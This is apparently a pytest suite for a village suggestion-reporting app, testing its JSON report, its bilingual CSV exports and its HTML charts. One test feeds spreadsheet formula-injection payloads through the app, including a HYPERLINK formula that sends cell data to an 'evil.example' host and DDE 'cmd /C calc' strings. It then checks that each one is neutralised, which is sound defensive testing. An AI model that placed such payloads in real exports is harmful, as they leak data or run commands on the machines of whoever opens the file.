"""The micro-report over HTTP: JSON, CSV round-trip with Chinese text and no formula injection, and
the page's charts."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient

from api.csv_export import csv_cell
from models.vocabulary import STATUS_NAMES
from tests.api.conftest import staffed_client
from tests.api.workflow_helpers import ADMIN, T0, Staffing, routed_suggestion, villager_rating_key

HANDLER = ("li", "handler")


@pytest.fixture(scope="module")
def api(
    tmp_path_factory: pytest.TempPathFactory, weights_cache: Path, staffing: Staffing
) -> Iterator[TestClient]:
    with staffed_client(
        staffing, tmp_path_factory.mktemp("var"), weights_cache, worker_enabled=False, report_min_ratings=1
    ) as c:
        yield c


@pytest.fixture(scope="module")
def resolved(api: TestClient, staffing: Staffing) -> list[int]:
    """Two power suggestions handled in November 2026, one still open, one rated."""
    staffing.clock.now = T0
    ids, codes = [], []
    for village, text in (("青山村", "村口路灯坏了，晚上很黑"), ("白水村", '路灯不亮，"请"尽快修, 谢谢')):
        sid, code = routed_suggestion(api, "power", village, text, submitted_at=T0)
        ids.append(sid)
        codes.append(code)
        with staffing.as_(*ADMIN):
            assert api.post(f"/api/v1/suggestions/{sid}/dispatch", json={}).status_code == 200
        with staffing.as_(*HANDLER, department="power_station"):
            api.post(f"/api/v1/suggestions/{sid}/accept")
    with staffing.as_(*HANDLER, department="power_station"):
        api.post(f"/api/v1/suggestions/{ids[0]}/start")
        staffing.clock.advance(days=3)
        r = api.post(f"/api/v1/suggestions/{ids[0]}/resolve", json={"result_note": "换了灯泡"})
        assert r.status_code == 200, r.text
    key = villager_rating_key(api, ids[0])
    rated = api.post(f"/api/v1/track/{codes[0]}/satisfaction", json={"score": 4, "key": key})
    assert rated.status_code in (200, 201)
    staffing.clock.advance(days=40)  # the open one is overdue now
    return ids


def test_the_report_needs_staff(api: TestClient) -> None:
    assert api.get("/api/v1/reports").status_code == 401
    assert api.get("/staff/reports").status_code == 401


def test_json_csv_and_page_agree(api: TestClient, staffing: Staffing, resolved: list[int]) -> None:
    params = {"period": "month", "date": "2026-11-15"}
    with staffing.as_(*HANDLER, department="power_station"):
        body = api.get("/api/v1/reports", params=params).json()
        assert body["total"] >= 2 and body["by_category"]["power"] >= 2
        [power] = [d for d in body["departments"] if d["code"] == "power_station"]
        assert power["dispatched"] == 2 and power["resolved"] == 1 and power["rectification_rate"] == 0.5
        assert power["median_days_to_resolve"] == pytest.approx(3.0, abs=0.01)
        assert body["satisfaction_distribution"]["4"] == 1 and body["satisfaction_mean"] == 4.0
        assert [o["id"] for o in body["overdue"]] == [resolved[1]]

        agg = api.get("/api/v1/reports/aggregates.csv", params=params)
        assert agg.headers["content-type"].startswith("text/csv")
        assert agg.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(agg.content.decode("utf-8-sig"))))
        assert rows[0] == ["Section", "Item", "Measure", "Value"]  # the client asks for English
        assert ["Village", "白水村", "Suggestions", "1"] in rows
        assert ["Department", "Power Supply Station", "Rectification rate", "0.5"] in rows

        sug = api.get("/api/v1/reports/suggestions.csv", params=params)
        assert sug.content.startswith(b"\xef\xbb\xbf")
        table = list(csv.DictReader(io.StringIO(sug.content.decode("utf-8-sig"))))
        texts = {int(r["No."]): r["Text"] for r in table}
        assert texts[resolved[1]] == '路灯不亮，"请"尽快修, 谢谢'  # quotes and commas survive
        assert {r["Village"] for r in table} >= {"青山村", "白水村"}

        zh = api.get("/api/v1/reports/suggestions.csv", params=params, headers={"Accept-Language": ""})
        chinese = {int(r["编号"]): r for r in csv.DictReader(io.StringIO(zh.content.decode("utf-8-sig")))}
        row = chinese[resolved[1]]
        assert (row["类别"], row["部门"]) == ("电力供应", "供电所")
        assert row["状态"] in {zh for zh, _ in STATUS_NAMES.values()} and "Category code" not in row
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", row["提交时间"])  # no microseconds
        submitted = {int(r["No."]): r["Submitted at"] for r in table}[resolved[1]]
        assert submitted == row["提交时间"]  # the same local time in either language
        coded = api.get("/api/v1/reports/suggestions.csv", params={**params, "codes": "1"})
        header = next(csv.reader(io.StringIO(coded.content.decode("utf-8-sig"))))
        assert header[header.index("Category") + 1] == "Category code"
        [with_codes] = [
            r
            for r in csv.DictReader(io.StringIO(coded.content.decode("utf-8-sig")))
            if r["No."] == str(resolved[1])
        ]
        assert (with_codes["Category code"], with_codes["Department code"]) == ("power", "power_station")
        zh_agg = api.get(
            "/api/v1/reports/aggregates.csv", params={**params, "codes": "1"}, headers={"Accept-Language": ""}
        )
        zh_rows = list(csv.reader(io.StringIO(zh_agg.content.decode("utf-8-sig"))))
        assert zh_rows[0] == ["分类", "事项", "代码", "指标", "数值"]
        assert ["部门", "供电所", "power_station", "办结率", "0.5"] in zh_rows

        page = api.get("/staff/reports", params=params)
        assert page.status_code == 200
        html = page.text
        assert 'media="print"' in html or "@media print" in api.get("/static/report.css").text
        bars = dict(re.findall(r'<g class="bar" data-label="([^"]+)" data-value="([^"]+)"', html))
        assert bars["电力供应"] == str(body["by_category"]["power"])
        assert bars["4★"] == "1"
        points = re.findall(r'<g class="point" data-label="[^"]+" data-value="(\d+)"', html)
        assert [int(p) for p in points] == [n for _, n in body["trend"]]
        assert f'<span id="total">{body["total"]}</span>' in html

        assert api.get("/api/v1/reports", params={"period": "year"}).status_code == 422
        assert api.get("/api/v1/reports", params={"date": "11/15"}).status_code == 422
        bad_scope = api.get("/api/v1/reports", params={"scope": "department", "key": "nope"})
        assert bad_scope.status_code == 404


# What villagers typed, each starting with a character that makes a spreadsheet run the cell as a
# formula. The submission desk strips leading whitespace, so the tab and CR cases are stored rows.
TYPED = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]
STORED = ["\t=1+1", "\r=1+1", "  =1+1"]


def test_villager_text_never_becomes_a_spreadsheet_formula(api: TestClient, staffing: Staffing) -> None:
    ids: dict[int, str] = {}
    for value in TYPED:
        form = {"text": f"{value} 路灯坏了", "village": value, "address": value}
        response = api.post("/api/v1/suggestions", data=form)
        assert response.status_code == 202, response.text
        ids[response.json()["id"]] = value
    for value in STORED:
        sid, _ = routed_suggestion(api, "power", value, f"{value} 路灯坏了")
        ids[sid] = value
    params = {"period": "week", "date": datetime.now(UTC).date().isoformat()}
    with staffing.as_("qian", "reviewer"):  # the township office, whose export carries addresses
        sug = api.get("/api/v1/reports/suggestions.csv", params=params)
        agg = api.get("/api/v1/reports/aggregates.csv", params=params)
        body = api.get("/api/v1/reports", params=params).json()
    table = {int(r["No."]): r for r in csv.DictReader(io.StringIO(sug.content.decode("utf-8-sig")))}
    for sid, value in ids.items():
        row = table[sid]
        assert row["Village"] == "'" + value, (value, row)
        assert row["Text"] == f"'{value} 路灯坏了", (value, row)
        if value in TYPED:
            assert row["Address"] == "'" + value
        assert row["Tracking code"][0] != "'" and row["No."] == str(sid)  # the product's own cells
    rows = list(csv.reader(io.StringIO(agg.content.decode("utf-8-sig"))))
    villages = {key: value for section, key, _, value in rows if section == "Village"}
    for value in ids.values():
        assert villages["'" + value] == "1", value
    # Numbers stay numbers.
    assert ["Total", "", "Suggestions", str(body["total"])] in rows


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, -3),
        (-0.5, -0.5),
        (Decimal("-1.25"), Decimal("-1.25")),
        ("-3", "'-3"),
        ("@x", "'@x"),
        ("\x00=1", "'\x00=1"),
        ("\n=1", "'\n=1"),
        ("\u3000＝1", "'\u3000＝1"),
        ("路灯 = 坏了", "路灯 = 坏了"),
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
        (datetime(2026, 11, 2, 8, 0, tzinfo=UTC), "2026-11-02T08:00:00+00:00"),
    ],
)
def test_csv_cells_escape_text_only(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_csv_times_are_the_township_wall_clock_to_the_second() -> None:
    moment = datetime(2026, 11, 2, 20, 5, 9, 123456, tzinfo=UTC)
    assert csv_cell(moment, ZoneInfo("Asia/Shanghai")) == "2026-11-03 04:05:09"
